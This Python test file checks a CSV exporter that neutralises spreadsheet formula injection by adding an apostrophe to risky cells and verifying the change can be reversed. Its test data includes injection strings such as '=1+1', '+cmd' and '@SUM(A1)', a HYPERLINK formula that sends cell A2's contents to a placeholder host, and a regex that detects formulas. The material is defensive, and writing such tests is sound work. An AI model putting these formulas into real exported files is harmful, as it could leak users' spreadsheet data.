"""CSV that any spreadsheet opens and none runs."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from consult.exports.csv_text import csv_bytes, csv_line, neutralise, restore


def _parse(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


@pytest.mark.parametrize("cell", ["=1+1", "+cmd", "-rm", "@SUM(A1)", "＝1+1", "＋1a", "'=1", "-inf", "+nan", "- 5"])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("\t=1", "\t'=1"),
        ("\r=1", "\r'=1"),
        ("\n=1", "\n'=1"),
        ("Bonjour;=1+1;", "Bonjour;'=1+1;"),
        ("Bonjour,@SUM(A1)", "Bonjour,'@SUM(A1)"),
        ('Bonjour;"=1+1;', "Bonjour;\"'=1+1;"),  # a cell in quotes, for that reader
        ("Bonjour;;\t+1;'-2", "Bonjour;;\t'+1;''-2"),
        ("deux :\n- un\n- deux", "deux :\n'- un\n'- deux"),
    ],
)
def test_what_would_run_after_another_separator_gets_one_too(cell, written):
    assert neutralise(cell) == written
    assert restore(written) == cell


@pytest.mark.parametrize("cell", ["a; 'b'", "« a », '=1", "x='1'", "a;'b"])
def test_a_text_that_cannot_have_been_written_so_stays_as_it_is(cell):
    assert restore(cell) == cell


@pytest.mark.parametrize("cell", ["", "a", "5", "-5", "+5.25", "-1e3", "l’urgence", "a=b", "1 - 2", "« - »"])
def test_other_text_and_numbers_stay_as_they_are(cell):
    assert neutralise(cell) == cell


_SPITEFUL = st.text(st.sampled_from("=+-@＝'\",;\t\r\n|a1é ."), max_size=12)


@given(st.text() | _SPITEFUL)
def test_what_was_neutralised_can_be_restored(cell):
    assert restore(neutralise(cell)) == cell


def test_the_bytes_are_those_of_rfc_4180_in_utf_8_with_a_mark():
    content = csv_bytes(("id", "réponse"), [("1", 'dit "non", deux\nfois'), ("=2", "")])
    assert content == b'\xef\xbb\xbfid,r\xc3\xa9ponse\r\n1,"dit ""non"", deux\nfois"\r\n\'=2,\r\n'


def test_a_heading_that_begins_like_a_formula_is_neutralised_too():
    assert _parse(csv_bytes(("=a", "b"), [])) == [["'=a", "b"]]


def test_numbers_are_written_as_numbers():
    assert _parse(csv_bytes(("n", "x"), [(-3, 0.25)])) == [["n", "x"], ["-3", "0.25"]]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(rows=st.lists(st.tuples(st.text() | _SPITEFUL, st.text() | _SPITEFUL), max_size=5))
def test_every_text_comes_back_from_the_file(rows, delimiter):
    parsed = _parse(csv_bytes(("a", "b"), rows, delimiter), delimiter)
    assert [tuple(restore(cell) for cell in row) for row in parsed[1:]] == rows


@given(st.lists(_SPITEFUL, max_size=4))
def test_a_file_of_one_column_keeps_every_row(cells):
    parsed = _parse(csv_bytes(("a",), [(cell,) for cell in cells]))
    assert [restore(cell) for (cell,) in parsed[1:]] == cells


@pytest.mark.parametrize("cell", ["a,b", "a;b", "a\tb", 'a"b', "a\nb", "a\rb"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_cell_that_any_separator_would_cut_is_quoted(cell, delimiter):
    assert csv_line(("1", cell), delimiter) == f'1{delimiter}"{cell.replace(chr(34), chr(34) * 2)}"\r\n'


# A number with its sign is none, also where what stands after it is another cell to another reader: "-1,,".
FORMULA = re.compile(r"[=@＝＋－＠]|[+\-](?!([0-9]+\.?[0-9]*|\.[0-9]+)(e[+\-]?[0-9]+)?([,;\t].*)?$)", re.DOTALL | re.I)


def _formulas(content: str) -> list[str]:
    """Return what readers of each separator would run: those that honour quotes, and one that knows none."""
    read = []
    for delimiter in (",", ";", "\t"):
        read += [cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter) for cell in row]
        read += re.split(rf"[{delimiter}\r\n]", content)
    return [cell for cell in read if FORMULA.match(cell)]


def test_the_readers_of_these_tests_find_what_is_not_neutralised():
    for cell in ("=1+1", "Bonjour;=1+1;", "Bonjour\n=1+1", 'Bonjour;"=1+1;'):
        assert any(_formulas(csv_line(("1", "x", cell), delimiter)) for delimiter in (",", ";")), cell


@given(rows=st.lists(st.tuples(_SPITEFUL, _SPITEFUL, _SPITEFUL), max_size=3))
@example(rows=[("hardest", "Q", 'Bonjour;=HYPERLINK("http://x/"&A2;"ici")')])
@example(rows=[("1", "Q", 'Bonjour;"=1+1;')])
@example(rows=[("-1", "", "")])
def test_no_reader_of_any_separator_sees_a_formula(rows):
    for delimiter in (",", ";", "\t"):
        assert _formulas(csv_bytes(("a", "b", "c"), rows, delimiter).decode("utf-8-sig")) == []
